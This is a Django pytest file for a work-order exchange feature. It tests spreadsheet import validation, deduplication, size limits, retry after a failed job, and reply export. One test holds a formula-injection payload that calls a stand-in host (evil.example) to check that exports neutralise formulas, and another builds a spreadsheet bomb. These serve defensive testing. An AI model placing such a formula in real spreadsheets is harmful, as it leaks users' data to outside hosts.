"""12345 work orders: import with a row-by-row report, dedupe by external number, export replies."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from minqing.api.exchange import import_job
from minqing.api.models import ImportJob, ImportMapping
from minqing.tickets import actions
from minqing.tickets.models import Ticket

HEADER = ["工单编号", "来电时间", "来电人", "联系电话", "诉求内容", "诉求类型", "所属区域", "办理时限", "诉求分类"]


def xlsx(rows: list[list[object]], header: list[str] = HEADER) -> SimpleUploadedFile:
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return SimpleUploadedFile("orders.xlsx", out.getvalue())


def standard() -> int:
    return ImportMapping.objects.get(name="12345 标准格式").pk


def upload(c: Client, cast, file: SimpleUploadedFile) -> ImportJob:
    c.get("/exchange/")  # creates the standard mapping
    r = c.post("/exchange/", {"file": file, "mapping": standard(), "default_category": cast.category().pk})
    assert r.status_code == 302, r.content.decode()[:500]
    job = ImportJob.objects.latest("id")
    return import_job(job)  # what the worker's task runs


def test_import_reports_each_row_and_dedupes_by_work_order_number(cast) -> None:
    c = Client()
    c.force_login(cast.duban)
    rows = [
        ["GD-001", "2026-11-30 09:00", "王大爷", "13912345678", "瓜州路社区门口路灯不亮了", "投诉", "瓜州路社区",
         "2026-12-05 18:00", "路灯损坏"],
        ["GD-002", "2026-11-30 09:10", "李阿姨", "12", "楼道堆满杂物", "求助", "瓜州路社区", "", ""],
        ["GD-003", "2026-11-30 09:20", "赵先生", "13900001111", "下水道堵了", "求助", "火星社区", "", ""],
        ["", "", "", "", "", "", "", "", ""],
    ]
    job = upload(c, cast, xlsx(rows))
    assert (job.status, job.created, job.updated, job.rejected) == ("done", 2, 0, 1)
    reasons = {r["number"]: r for r in job.report}
    assert "手机号" in reasons["GD-002"]["reason"]
    unknown = Ticket.objects.get(external_number="GD-003")  # a place that matches nothing is not refused
    assert unknown.location_pending and unknown.handling_unit.name == "七里河区民情服务中心"
    t = Ticket.objects.get(external_number="GD-001")
    assert t.channel == "12345" and t.type == "complaint" and t.category == cast.category("WY01")
    assert t.external_due_at is not None
    again = upload(c, cast, xlsx([["GD-001", "", "王大爷", "13912345678", "路灯不亮", "投诉", "瓜州路社区",
                                   "2026-12-08 18:00", ""]]))
    assert (again.created, again.updated) == (0, 1) and Ticket.objects.filter(external_number="GD-001").count() == 1
    assert t.events.filter(action="external_due").exists()
    page = c.get(f"/exchange/jobs/{job.pk}/").content.decode()
    assert "新增 2" in page and "GD-002" in page


def test_a_bad_file_imports_nothing(cast) -> None:
    c = Client()
    c.force_login(cast.duban)
    job = upload(c, cast, xlsx([["GD-9", "瓜州路社区路灯坏了"]], header=["编号", "内容"]))
    assert job.status == "failed" and "缺少必需的列" in job.error and Ticket.objects.count() == 0
    c.get("/exchange/")
    r = c.post("/exchange/", {"file": SimpleUploadedFile("x.pdf", b"%PDF"), "mapping": standard(),
                              "default_category": cast.category().pk})
    assert "只支持 .xlsx 和 .csv" in r.content.decode()
    broken = upload(c, cast, SimpleUploadedFile("orders.xlsx", b"not a workbook"))
    assert broken.status == "failed" and "无法读取文件" in broken.error


def test_export_replies_round_trip(cast) -> None:
    c = Client()
    c.force_login(cast.duban)
    upload(c, cast, xlsx([["GD-100", "", "王大爷", "13912345678", "瓜州路社区门口路灯不亮了", "投诉", "瓜州路社区",
                           "", ""]]))
    t = Ticket.objects.get(external_number="GD-100")
    t = actions.ticket_accept(ticket=t, actor=cast.shequ)
    actions.ticket_resolve_on_spot(ticket=t, actor=cast.shequ, result="已更换灯泡")
    r = c.get("/exchange/replies.xlsx?days=7")
    sheet = load_workbook(io.BytesIO(r.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("工单编号", "本系统编号", "办结状态", "办理结果")
    assert rows[1][0] == "GD-100" and rows[1][3] == "已更换灯泡" and rows[1][2] == "已办结，等待回访"


def test_only_the_district_center_uses_the_exchange(cast) -> None:
    c = Client()
    c.force_login(cast.shequ)
    assert c.get("/exchange/").status_code == 404
    assert c.get("/exchange/replies.xlsx").status_code == 404


def csv_file(text: str) -> SimpleUploadedFile:
    return SimpleUploadedFile("orders.csv", text.encode("utf-8"))


ROW = ["瓜州路社区门口路灯不亮了", "投诉", "瓜州路社区", "", ""]


def test_a_csv_cell_over_128_kb_fails_the_job_with_a_reason_and_writes_nothing(cast) -> None:
    c = Client()
    c.force_login(cast.duban)
    text = ",".join(HEADER) + "\n" + "GD-1,,王大爷,13912345678,路灯坏了,投诉,瓜州路社区,,\n" + \
        "GD-2,,李阿姨,13912345679," + "长" * 140_000 + ",投诉,瓜州路社区,,\n"
    job = upload(c, cast, csv_file(text))  # this used to raise out of the job and leave it at 导入中
    assert job.status == "failed" and "第 3 行有单元格超过 32,767 个字符" in job.error
    assert Ticket.objects.count() == 0 and job.created == 0
    page = c.get(f"/exchange/jobs/{job.pk}/").content.decode()
    assert "失败" in page and "没有导入任何一行" in page and "重试" in page


@pytest.mark.parametrize(("limit", "value", "rows", "reason"), [
    ("IMPORT_MAX_ROWS", 2, 3, "表格超过 2 行"),
    ("IMPORT_MAX_MEMBER_BYTES", 20_000, 3, "解压后过大"),
    ("IMPORT_MAX_BYTES", 30_000, 3, "解压后过大（"),
    ("IMPORT_MAX_CELL_CHARS", 10, 1, "超过 10 个字符"),
    ("IMPORT_MAX_COLUMNS", 5, 1, "超过 5 列"),
])
def test_a_file_over_a_limit_fails_the_job_and_writes_nothing(cast, settings, limit, value, rows, reason) -> None:
    settings.MINQING = {**settings.MINQING, limit: value}
    c = Client()
    c.force_login(cast.duban)
    # Good rows, the later ones padded to make the sheet large: the limit is checked before the first batch.
    job = upload(c, cast, xlsx([[f"GD-{i}", "", "王大爷", "13912345678", *ROW[:1], "投诉", "瓜州路社区",
                                 "", "x" * (60_000 if i == rows - 1 and limit.endswith("BYTES") else 0)]
                                for i in range(rows)]))
    assert job.status == "failed" and reason in job.error, job.error
    assert Ticket.objects.count() == 0


def test_a_spreadsheet_bomb_fails_the_job_at_once(cast) -> None:
    from minqing.lib.tests.test_xlsx import sheet_xml, with_part

    c = Client()
    c.force_login(cast.duban)
    bomb = with_part("xl/worksheets/sheet1.xml", sheet_xml('<row r="1">' + "<c/>" * 200_000 + "</row>"))
    job = upload(c, cast, SimpleUploadedFile("orders.xlsx", bomb))
    assert job.status == "failed" and "第 1 行的单元格过多" in job.error and Ticket.objects.count() == 0


def test_a_job_that_breaks_midway_fails_with_a_reason_and_a_retry_imports_each_order_once(cast, monkeypatch) -> None:
    from minqing.api import exchange

    c = Client()
    c.force_login(cast.duban)
    monkeypatch.setattr(exchange, "BATCH", 2)
    real = exchange.actions.ticket_create_many
    calls = []

    def second_batch_breaks(**kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise RuntimeError("database went away")
        return real(**kwargs)

    monkeypatch.setattr(exchange.actions, "ticket_create_many", second_batch_breaks)
    rows = [[f"GD-{i}", "", "王大爷", "13912345678", f"瓜州路社区门口路灯不亮了（{i}）", "投诉", "瓜州路社区", "", ""]
            for i in range(5)]
    job = upload(c, cast, xlsx(rows))
    assert job.status == "failed" and "导入时出错" in job.error and "重试" in job.error
    assert (job.done, job.created) == (2, 2) and Ticket.objects.count() == 2  # the first batch was committed
    assert [r["number"] for r in job.report] == ["GD-0", "GD-1"]
    r = c.post(f"/exchange/jobs/{job.pk}/retry/", follow=True)
    assert "已重新排队" in r.content.decode()
    job.refresh_from_db()
    assert job.status == "queued" and job.error == "" and job.done == 0
    job = import_job(job)  # what the re-queued task runs
    assert job.status == "done" and (job.created, job.updated) == (3, 2)
    assert Ticket.objects.count() == 5 and Ticket.objects.filter(external_number="GD-0").count() == 1
    again = c.post(f"/exchange/jobs/{job.pk}/retry/", follow=True).content.decode()
    assert "不是“失败”状态" in again


def test_the_reply_export_writes_text_as_text_and_times_as_times(cast) -> None:
    c = Client()
    c.force_login(cast.duban)
    upload(c, cast, xlsx([["GD-7", "", "王大爷", "13912345678", "瓜州路社区门口路灯不亮了", "投诉", "瓜州路社区", "", ""]]))
    t = actions.ticket_accept(ticket=Ticket.objects.get(external_number="GD-7"), actor=cast.shequ)
    attack = '=HYPERLINK("http://evil.example/?"&A2,"查看详情")'
    actions.ticket_resolve_on_spot(ticket=t, actor=cast.shequ, result=attack)
    content = c.get("/exchange/replies.xlsx?days=7").content
    sheet = load_workbook(io.BytesIO(content)).active
    result, replied = sheet["D2"], sheet["E2"]
    assert result.value == attack and result.data_type == "s" and result.quotePrefix  # never a formula
    assert replied.is_date and replied.value.date() == timezone.localdate()
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["D"].width > len("办理结果") * 2


def test_an_imported_order_keeps_its_call_time_and_a_department_matter_waits_at_the_centre(cast) -> None:
    import datetime as dt

    c = Client()
    c.force_login(cast.duban)
    called = timezone.localtime(timezone.now() - dt.timedelta(days=1)).replace(second=0, microsecond=0)
    future = timezone.localtime(timezone.now() + dt.timedelta(days=1))
    job = upload(c, cast, xlsx([
        ["GD-101", f"{called:%Y-%m-%d %H:%M}", "王大爷", "13912345678", "瓜州路社区门口占道经营，车过不去", "投诉", "瓜州路社区",
         "", "占道经营"],
        ["GD-102", f"{future:%Y-%m-%d %H:%M}", "李阿姨", "13912345679", "瓜州路社区路灯不亮了好几天", "求助", "瓜州路社区", "", ""],
        ["GD-103", "昨天下午", "赵先生", "13912345670", "瓜州路社区路灯不亮了好几天", "求助", "瓜州路社区", "", ""],
    ]))
    reasons = {r["number"]: r["reason"] for r in job.report}
    assert "晚于现在" in reasons["GD-102"] and "来电时间" in reasons["GD-103"]
    t = Ticket.objects.get(external_number="GD-101")
    assert t.created_at == called and t.response_started_at == called
    assert t.handling_unit.name == "七里河区民情服务中心"


def test_a_long_report_lists_every_refused_row_and_says_how_many_new_rows_it_left_out(cast, monkeypatch) -> None:
    from minqing.api import views

    monkeypatch.setattr(views, "REPORT_ROWS", 3)
    c = Client()
    c.force_login(cast.duban)
    rows = [[f"GD-{i}", "", "王大爷", "13912345678", f"瓜州路社区门口路灯不亮了（{i}）", "投诉", "瓜州路社区", "", ""]
            for i in range(6)]
    rows[4][4] = "短"  # too short: refused
    job = upload(c, cast, xlsx(rows))
    assert (job.created, job.rejected) == (5, 1)
    page = c.get(f"/exchange/jobs/{job.pk}/").content.decode()
    assert "诉求内容太短" in page and "另有 3 行新增未列出" in page
    assert "GD-0" in page and "GD-1" in page and "GD-5" not in page


def test_while_the_table_is_read_the_page_says_so_instead_of_0_of_0(cast) -> None:
    c = Client()
    c.force_login(cast.duban)
    c.get("/exchange/")  # creates the standard mapping
    job = ImportJob.objects.create(mapping_id=standard(), default_category=cast.category(), created_by=cast.duban,
                                   status="running", file=SimpleUploadedFile("orders.xlsx", b"x"))
    page = c.get(f"/exchange/jobs/{job.pk}/").content.decode()
    assert "正在读取并检查整个表格" in page
    ImportJob.objects.filter(pk=job.pk).update(total=800, done=500)
    page = c.get(f"/exchange/jobs/{job.pk}/").content.decode()
    assert "正在读取" not in page and "已处理 500 / 800 行" in page
